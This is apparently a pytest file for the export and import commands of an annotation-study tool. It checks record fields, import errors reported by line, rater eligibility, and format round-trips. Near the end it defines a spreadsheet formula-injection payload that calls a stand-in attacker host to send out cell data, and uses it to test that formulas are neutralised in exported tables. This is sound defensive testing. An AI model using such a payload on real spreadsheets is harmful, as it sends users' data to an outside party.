"""`rubrica export` and `rubrica import`: what comes out goes in, and what does not fit is named by line."""

from __future__ import annotations

import csv
import json
import os
import threading
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import Ran
from tests.making import fill, write_pairs

Rubrica = Callable[..., Ran]


@pytest.fixture
def judged(rubrica: Rubrica, tmp_path: Path) -> Path:
    """A study named s with six judgements, exported to JSON lines; one pair is identical."""
    items = write_pairs(tmp_path / "i.csv", 2)
    items.write_text(items.read_text() + "same,All is well.,All is well.\n")
    rubrica("study", "new", "s", "--protocol", "breve", "--items", items, "--overlap", 2)
    files = rubrica("sheets", "write", "s", "--annotators", "ana,bob", "--out", tmp_path, "--json").json["files"]
    for file in files:
        fill(Path(file))
    assert rubrica("sheets", "read", "s", *files).code == 0
    out = tmp_path / "s.jsonl"
    assert rubrica("export", "s", "--format", "jsonl", "-o", out).code == 0
    return out


def lines(path: Path) -> list[dict[str, object]]:
    """The records of a file."""
    return [json.loads(line) for line in path.read_text().splitlines()]


def test_records_carry_who_what_and_signature(judged: Path) -> None:
    """Every line names study, stage, item, annotator, revision, answers and the signature."""
    for record in lines(judged):
        assert record.keys() >= {"study", "stage", "item", "annotator", "revision", "outcome", "answers", "signature"}
        assert "hash:" in str(record["signature"])


def test_not_applicable_is_a_value_of_its_own(judged: Path, rubrica: Rubrica, tmp_path: Path) -> None:
    """On the identical pair acceptance is not applicable; severity of an accepted one is just absent."""
    same = [record for record in lines(judged) if record["item"] == "same"]
    assert all(record["answers"]["acceptance"] == {"not_applicable": True} for record in same)
    rubrica("export", "s", "--format", "csv", "-o", tmp_path / "s.csv")
    with (tmp_path / "s.csv").open() as file:
        rows = list(csv.DictReader(file))
    for row in rows:
        assert (row["acceptance"] == "not_applicable") == (row["item"] == "same")
        if row["acceptance"] == "accept":
            assert row["severity"] == ""


@pytest.mark.postgres
def test_import_of_the_same_file_changes_nothing(judged: Path, rubrica: Rubrica) -> None:
    """Importing what was just exported is no correction."""
    assert rubrica("import", "s", judged, "--json").json["read"] == {"judgements": 0, "revisions": 0, "unchanged": 6}


def test_import_problems_come_with_their_lines(judged: Path, rubrica: Rubrica, tmp_path: Path) -> None:
    """All broken lines are reported at once and nothing is imported."""
    records = lines(judged)
    records[0]["answers"]["meaning"] = 9
    records[1]["item"] = "elsewhere"
    records[2]["stage"] = "nowhere"
    records[3]["fields"] = {"source": "Another text."}
    records[4]["annotator"] = ""
    broken = tmp_path / "broken.jsonl"
    broken.write_text("\n".join([*map(json.dumps, records[:4]), "{", json.dumps(records[4])]) + "\n")
    shape = rubrica("import", "s", broken, "--json")
    assert [error["line"] for error in shape.json["errors"]] == [5, 6]
    broken.write_text("\n".join(map(json.dumps, records[:4])) + "\n")
    meaning = rubrica("import", "s", broken, "--json")
    assert meaning.code == 1
    found = [(error["line"], error["rule"]) for error in meaning.json["errors"]]
    assert found == [(1, "scale"), (2, "unknown_item"), (3, "unknown_stage"), (4, "other_text")]


def test_unknown_format(rubrica: Rubrica, judged: Path) -> None:
    """An unknown format is refused with those that exist."""
    ran = rubrica("export", "s", "--format", "yaml")
    assert ran.code == 1
    assert "jsonl, csv, xlsx, parquet" in ran.err


def test_export_into_a_missing_folder(rubrica: Rubrica, judged: Path, tmp_path: Path) -> None:
    """A file that cannot be written is named, without a traceback."""
    ran = rubrica("export", "s", "--format", "csv", "-o", tmp_path / "no" / "s.csv")
    assert ran.code == 1
    assert "cannot be written" in ran.err


def test_json_needs_a_file(rubrica: Rubrica, judged: Path) -> None:
    """Data on stdout and a JSON object would mix: --json asks for a file."""
    assert rubrica("export", "s", "--format", "csv", "--json").code == 1
    assert rubrica("export", "s", "--format", "csv", "--json", "-o", judged.with_suffix(".csv")).json["judgements"] == 6


def test_authors_cannot_be_imported_as_raters(rubrica: Rubrica, tmp_path: Path) -> None:
    """Nobody who wrote a rewrite comes in as its rater by way of an import."""
    items = tmp_path / "i.csv"
    items.write_text("id,source,rewrite,author\n1,a b.,A. B.,wim\n")
    rubrica("study", "new", "r", "--protocol", "split_rate", "--items", items)
    answers = {"sensible": 5, "grammatical": 5, "missing_facts": "no", "new_facts": "no", "wrong_split": "no"}
    record = {"item": "1", "annotator": "wim", "answers": {**answers, "further_split": "no"}}
    rating = tmp_path / "r.jsonl"
    rating.write_text(json.dumps(record) + "\n")
    ran = rubrica("import", "r", rating, "--json")
    assert ran.json["errors"][0]["rule"] == "eligibility"
    rating.write_text(json.dumps({**record, "annotator": "rob"}) + "\n")
    assert rubrica("import", "r", rating).code == 0


@pytest.mark.parametrize("form", ["jsonl", "csv", "xlsx", "parquet"])
def test_planted_items_can_be_scored_from_an_export(rubrica: Rubrica, tmp_path: Path, form: str) -> None:
    """Exports say what a gold item's answer is and what a duplicate repeats, and an import keeps both."""
    gold = tmp_path / "gold.csv"
    gold.write_text("source,rewrite,meaning,concern\nThe gate is old.,The gate is new.,1,no\n")
    checks = f"duplicates=30%,gold={gold}"
    items = write_pairs(tmp_path / "i.csv", 4)
    rubrica("study", "new", "p", "--protocol", "breve", "--items", items, "--overlap", 1, "--checks", checks)
    files = rubrica("sheets", "write", "p", "--annotators", "ana", "--out", tmp_path, "--json").json["files"]
    fill(Path(files[0]))
    assert rubrica("sheets", "read", "p", *files).code == 0
    assert rubrica("export", "p", "--format", form, "-o", tmp_path / f"p.{form}").code == 0
    rubrica("study", "new", "q", "--protocol", "breve")
    assert rubrica("import", "q", tmp_path / f"p.{form}").code == 0
    rubrica("export", "q", "--format", "jsonl", "-o", tmp_path / "q.jsonl")
    planted = {record["planted"]: record for record in lines(tmp_path / "q.jsonl") if "planted" in record}
    assert planted["gold"]["known"] == {"meaning": 1, "concern": "no"}
    assert planted["duplicate"]["item"] == f"{planted['duplicate']['duplicate_of']}~2"


def test_long_names_are_refused_by_line(rubrica: Rubrica, tmp_path: Path) -> None:
    """Names that no column of the database holds are problems of their line, on every database."""
    rubrica("study", "new", "q", "--protocol", "breve")
    record = {"item": "i" * 201, "annotator": "a" * 201, "fields": {"source": "a", "rewrite": "b"}}
    (tmp_path / "q.jsonl").write_text(json.dumps(record) + "\n")
    errors = rubrica("import", "q", tmp_path / "q.jsonl", "--json").json["errors"]
    assert [(error["line"], error["rule"]) for error in errors] == [(1, "annotator_name"), (1, "length")]


def test_judgements_cannot_bring_items_without_texts(rubrica: Rubrica, tmp_path: Path) -> None:
    """A study without items takes them from the file only if the texts are there."""
    rubrica("study", "new", "q", "--protocol", "lexical_complexity")
    record = {"item": "1", "annotator": "ana", "fields": {"target": "arid"}, "answers": {"complexity": 4}}
    (tmp_path / "q.jsonl").write_text(json.dumps(record) + "\n")
    ran = rubrica("import", "q", tmp_path / "q.jsonl")
    assert ran.code == 1
    assert "q.jsonl:1: item 1: the field 'context' is missing" in ran.err
    assert rubrica("study", "show", "q", "--json").json["study"]["items"] == 0


@pytest.mark.postgres
def test_a_history_imported_twice_stays_the_same(judged: Path, rubrica: Rubrica, tmp_path: Path) -> None:
    """All revisions, imported again, change nothing."""
    corrected = lines(judged)
    corrected[0]["answers"]["comment"] = "On second thoughts."
    judged.write_text("\n".join(map(json.dumps, corrected)) + "\n")
    assert rubrica("import", "s", judged, "--json").json["read"]["revisions"] == 1
    history = tmp_path / "all.jsonl"
    rubrica("export", "s", "--format", "jsonl", "--revisions", "all", "-o", history)
    rubrica("study", "new", "q", "--protocol", "breve")
    assert rubrica("import", "q", history, "--json").json["read"] == {"judgements": 6, "revisions": 1, "unchanged": 0}
    assert rubrica("import", "q", history, "--json").json["read"] == {"judgements": 0, "revisions": 0, "unchanged": 7}


@pytest.mark.parametrize(
    ("change", "rule"),
    [
        ({"annotator": "a/b"}, "annotator_name"),
        ({"annotator": ["a", "b"]}, "form"),
        ({"seconds": -5}, "form"),
        ({"seconds": 1e300}, "form"),
        ({"revision": -1}, "form"),
        ({"revision": 10**20}, "form"),
        ({"planted": "foo"}, "form"),
        ({"protocol": "salsa@9"}, "protocol"),
    ],
)
def test_what_no_export_could_hold_is_refused(
    judged: Path, rubrica: Rubrica, change: dict[str, object], rule: str
) -> None:
    """Impossible names, numbers and protocols are problems of their line."""
    first = {**lines(judged)[0], **change}
    judged.write_text(json.dumps(first) + "\n")
    ran = rubrica("import", "s", judged, "--json")
    assert ran.code == 1
    assert (ran.json["errors"][0]["line"], ran.json["errors"][0]["rule"]) == (1, rule)


def test_a_device_or_pipe_is_written_to_not_replaced(rubrica: Rubrica, judged: Path, tmp_path: Path) -> None:
    """A special file, such as a named pipe or /dev/null, stays what it is."""
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    reader = threading.Thread(target=lambda: (tmp_path / "got").write_bytes(pipe.read_bytes()))
    reader.start()
    assert rubrica("export", "s", "--format", "csv", "-o", pipe).code == 0
    reader.join(timeout=30)
    assert pipe.is_fifo()
    assert (tmp_path / "got").read_text().count("breve@1.1") == 6


FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
TEXTS = [FORMULA, "+1 good", "-2 is cold", "@home", "'=was quoted", "''-twice", "\tbegins with a tab", "-3.5", "plain"]
ANSWERS = {"simplification": 2, "meaning": 3, "fluency": 3, "concern": "no", "acceptance": "accept", "needed": "yes"}


@pytest.fixture
def hostile(rubrica: Rubrica, tmp_path: Path) -> list[dict[str, object]]:
    """A study named s whose items, annotator and answers begin like formulas; its records."""
    rows = [[number, text, f"{text}."] for number, text in enumerate(TEXTS)]
    with (tmp_path / "i.csv").open("w", newline="") as file:
        csv.writer(file).writerows([["id", "source", "rewrite"], *rows])
    rubrica("study", "new", "s", "--protocol", "breve", "--items", tmp_path / "i.csv", "--overlap", 1)
    said = [
        {"item": str(number), "annotator": "=ana", "answers": {**ANSWERS, "comment": text}}
        for number, text in enumerate(TEXTS)
    ]
    (tmp_path / "said.jsonl").write_text("\n".join(map(json.dumps, said)))
    assert rubrica("import", "s", tmp_path / "said.jsonl").code == 0
    return _kept("s", rubrica, tmp_path)


def _kept(study: str, rubrica: Rubrica, folder: Path) -> list[dict[str, object]]:
    """What was said in a study, by whom, about which texts."""
    file = folder / f"{study}.jsonl"
    assert rubrica("export", study, "--format", "jsonl", "-o", file).code == 0
    return [{key: one[key] for key in ("item", "fields", "annotator", "answers")} for one in lines(file)]


def _rows(table: Path) -> list[dict[str, object]]:
    """The rows of a table as another program reads them."""
    if table.suffix == ".csv":
        with table.open(newline="") as file:
            return [dict(row) for row in csv.DictReader(file)]
    import openpyxl

    first, *rest = openpyxl.load_workbook(table).active.iter_rows(values_only=True)
    return [dict(zip(map(str, first), row, strict=True)) for row in rest]


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_safe_cells_are_no_formulas_and_come_back_as_they_were(
    hostile: list[dict[str, object]], rubrica: Rubrica, tmp_path: Path, form: str
) -> None:
    """No text of a safe table begins like a formula, numbers stay, and a copy made of it has every text as it was."""
    table = tmp_path / f"safe.{form}"
    made = rubrica("export", "s", "--format", form, "--safe-cells", "-o", table, "--json")
    assert "cells:safe" in made.json["signature"].split("|")
    rows = _rows(table)
    cells = [cell for row in rows for cell in row.values() if isinstance(cell, str)]
    assert [cell for cell in cells if cell[:1] in tuple("=+-@\t\r") and cell != "-3.5"] == []
    assert {row["source"] for row in rows} >= {f"'{FORMULA}", "'''-twice", "-3.5", "plain"}
    assert {str(row["meaning"]) for row in rows} == {"3"}
    rubrica("study", "new", "copy", "--protocol", "breve")
    assert rubrica("import", "copy", table).code == 0
    assert _kept("copy", rubrica, tmp_path) == hostile
    assert rubrica("import", "s", table, "--json").json["read"] == {"judgements": 0, "revisions": 0, "unchanged": 9}


def test_without_safe_cells_texts_are_as_they_are(
    hostile: list[dict[str, object]], rubrica: Rubrica, tmp_path: Path
) -> None:
    """An apostrophe of somebody's own is not taken away from a table that was not made safe."""
    table = tmp_path / "plain.csv"
    rubrica("export", "s", "--format", "csv", "-o", table)
    assert {row["source"] for row in _rows(table)} == set(TEXTS)
    rubrica("study", "new", "copy", "--protocol", "breve")
    assert rubrica("import", "copy", table).code == 0
    assert _kept("copy", rubrica, tmp_path) == hostile


def test_safe_cells_are_for_tables(judged: Path, rubrica: Rubrica, tmp_path: Path) -> None:
    """Where no spreadsheet opens the file, asking for safe cells is a mistake, and it says which formats have them."""
    refused = rubrica("export", "s", "--format", "jsonl", "--safe-cells", "-o", tmp_path / "out.jsonl")
    assert (refused.code, "[safe_cells]" in refused.err, "csv, xlsx" in refused.err) == (1, True, True)
    assert not (tmp_path / "out.jsonl").exists()
